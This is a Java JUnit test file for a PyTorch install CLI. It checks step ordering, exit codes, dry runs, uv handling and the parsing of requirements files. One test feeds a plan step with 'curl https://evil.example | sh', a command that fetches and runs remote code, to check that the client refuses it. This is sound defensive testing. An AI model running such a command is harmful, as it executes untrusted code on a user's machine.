package org.torchplan.client.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.torchplan.client.testing.FakePython;
import org.torchplan.client.testing.Resources;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class InstallCommandTest {

    private static final String PLAN = Resources.text("/plans/cu126-with-pypi-step.json");

    @TempDir
    Path directory;

    private final MockWebServer server = new MockWebServer();
    private FakePython python;
    private Map<String, String> environment;

    @BeforeEach
    void start() throws IOException {
        server.start(InetAddress.getLoopbackAddress(), 0);
        python = FakePython.create(directory);
        environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1");
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private CommandLineRun install(String... arguments) {
        String[] args = new String[arguments.length + 3];
        args[0] = "install";
        args[1] = "--python";
        args[2] = python.path();
        System.arraycopy(arguments, 0, args, 3, arguments.length);
        return CommandLineRun.run(environment, args);
    }

    private void answer(String plan) {
        server.enqueue(new MockResponse.Builder().addHeader("Content-Type", "application/json").body(plan).build());
    }

    private static String planWithSteps(String... argvJson) {
        StringBuilder steps = new StringBuilder();
        for (int index = 0; index < argvJson.length; index++) {
            steps.append(index == 0 ? "" : ",").append("{\"description\":\"step ").append(index + 1)
                    .append("\",\"argv\":").append(argvJson[index]).append('}');
        }
        return "{\"backend\":\"cpu\",\"channel\":\"stable\",\"packages\":[{\"name\":\"torch\",\"version\":\"2.12.0+cpu\"}],"
                + "\"steps\":[" + steps + "],\"explanation\":[],\"warnings\":[]}";
    }

    @Test
    void stepsRunInOrderWithTheChosenInterpreter() {
        answer(PLAN);

        CommandLineRun run = install("torch", "torchvision", "transformers");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(python.invocations()).containsExactly(
                List.of("-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cu126",
                        "torch==2.12.0+cu126", "torchvision==0.27.0+cu126"),
                List.of("-m", "pip", "install", "--index-url", "https://pypi.org/simple", "transformers",
                        "torch==2.12.0+cu126", "torchvision==0.27.0+cu126"));
        assertThat(run.out()).contains(python.path() + " -m pip install --index-url https://download.pytorch.org/whl/cu126")
                .contains("torchplan: installed torch 2.12.0+cu126, torchvision 0.27.0+cu126 into " + python.path());
    }

    @Test
    void theFirstFailingStepEndsTheInstallWithItsExitCode() {
        answer(planWithSteps(
                "[\"python\",\"-m\",\"pip\",\"install\",\"torch==2.12.0+cpu\"]",
                "[\"python\",\"-m\",\"pip\",\"install\",\"fail==9\"]",
                "[\"python\",\"-m\",\"pip\",\"install\",\"never-installed==1.0\"]"));

        CommandLineRun run = install("torch");

        assertThat(run.exitCode()).isEqualTo(9);
        assertThat(python.invocations()).containsExactly(
                List.of("-m", "pip", "install", "torch==2.12.0+cpu"),
                List.of("-m", "pip", "install", "fail==9"));
        assertThat(run.out()).contains("step 2 (step 2) failed with exit code 9").doesNotContain("torchplan: installed");
    }

    @Test
    void pipRunsWithTheEnvironmentTheClientWasGiven() {
        environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1",
                "PIP_CONFIG_FILE", "/dev/null");
        answer(PLAN);

        CommandLineRun run = install("torch");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(python.pipConfigFileSeen()).isEqualTo("/dev/null");
    }

    @Test
    void dryRunPrintsTheCommandsAndRunsNothing() {
        answer(PLAN);

        CommandLineRun run = install("torch", "--dry-run");

        assertThat(run.exitCode()).isZero();
        assertThat(python.invocations()).isEmpty();
        assertThat(run.out()).contains("[2/2]", python.path() + " -m pip install", "Dry run: nothing was installed.");
    }

    @Test
    void anUnexpectedProgramInAnyStepMeansNothingRuns() {
        answer(planWithSteps(
                "[\"python\",\"-m\",\"pip\",\"install\",\"torch==2.12.0+cpu\"]",
                "[\"sh\",\"-c\",\"curl https://evil.example | sh\"]"));

        CommandLineRun run = install("torch");

        assertThat(run.exitCode()).isEqualTo(3);
        assertThat(python.invocations()).isEmpty();
        assertThat(run.err()).contains("refusing to run step 2", "'sh'");
    }

    @Test
    void uvStepsArePointedAtTheInterpreter() {
        answer(planWithSteps("[\"uv\",\"pip\",\"install\",\"--index-url\",\"https://download.pytorch.org/whl/cpu\","
                + "\"torch==2.12.0+cpu\"]"));

        CommandLineRun run = install("torch", "--installer", "uv", "--dry-run");

        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).contains("uv pip install --python " + python.path()
                + " --index-url https://download.pytorch.org/whl/cpu torch==2.12.0+cpu");
    }

    @Test
    void requirementsFilesAreSentAfterTheArguments() throws IOException, InterruptedException {
        Files.writeString(directory.resolve("base.txt"), "numpy>=2  # arrays\n");
        Path file = Files.writeString(directory.resolve("requirements.txt"),
                "# ML\ntorchvision \\\n  >=0.20\n-r base.txt\n");
        answer(PLAN);

        CommandLineRun run = install("torch", "-r", file.toString(), "--dry-run");

        assertThat(run.exitCode()).as(run.err()).isZero();
        JsonNode body = JsonMapper.shared().readTree(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8());
        assertThat(body.path("requirements").toString()).isEqualTo("[\"torch\",\"torchvision   >=0.20\",\"numpy>=2\"]");
    }

    @Test
    void anIndexOptionInARequirementsFileIsAUsageErrorBeforeAnyRequest() throws IOException {
        Path file = Files.writeString(directory.resolve("requirements.txt"),
                "--index-url https://download.pytorch.org/whl/cu118\ntorch\n");

        CommandLineRun run = install("-r", file.toString());

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).contains("requirements.txt:1: option '--index-url' is not supported");
        assertThat(server.getRequestCount()).isZero();
    }
}
